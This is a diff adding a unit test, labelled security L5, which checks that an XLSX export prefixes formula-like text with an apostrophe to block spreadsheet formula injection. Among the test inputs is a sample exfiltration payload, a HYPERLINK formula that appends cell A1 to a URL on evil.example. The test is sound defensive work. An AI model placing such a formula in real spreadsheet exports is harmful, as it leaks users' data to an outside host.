@@ -43,3 +43,58 @@ describe('sendXlsxStream', () => {
     }
   }, 30_000);
 });
+
+describe('every export writes text that looks like a formula as text (security L5)', () => {
+  it("prefixes '=', '+', '-', '@', tab and carriage return with an apostrophe, nothing else", async () => {
+    const app = Fastify();
+    const typed = [
+      '=HYPERLINK("http://evil.example/?"&A1,"clique")',
+      '+1+1 orçamento',
+      '-2 horas',
+      '@SUM(1,1) contrato',
+      '\tcom tabulação',
+      '\rcom retorno',
+      'Revisão de contrato',
+    ];
+    app.get('/planilha', (_request, reply) =>
+      sendXlsxStream(
+        reply,
+        {
+          filename: 'planilha.xlsx',
+          sheetName: 'Planilha',
+          columns: [
+            { header: 'Texto', width: 40 },
+            { header: 'Número', width: 10 },
+          ],
+        },
+        [typed.map((text) => [text, -5])],
+      ),
+    );
+    try {
+      const response = await app.inject({ method: 'GET', url: '/planilha' });
+      const ExcelJS = (await import('exceljs')).default;
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+      const cells: unknown[][] = [];
+      workbook.getWorksheet('Planilha')!.eachRow((row, number) => {
+        if (number > 1) cells.push([row.getCell(1).value, row.getCell(2).value]);
+      });
+      // Each guarded cell starts with the apostrophe (a carriage return comes back from the
+      // sheet's XML as a line feed); ordinary text and numbers are as they were.
+      expect(cells.map(([text]) => String(text).charAt(0))).toEqual([
+        "'",
+        "'",
+        "'",
+        "'",
+        "'",
+        "'",
+        'R',
+      ]);
+      expect(cells[0]).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"clique")`, -5]);
+      expect(cells[3]).toEqual(["'@SUM(1,1) contrato", -5]);
+      expect(cells[6]).toEqual(['Revisão de contrato', -5]);
+    } finally {
+      await app.close();
+    }
+  });
+});
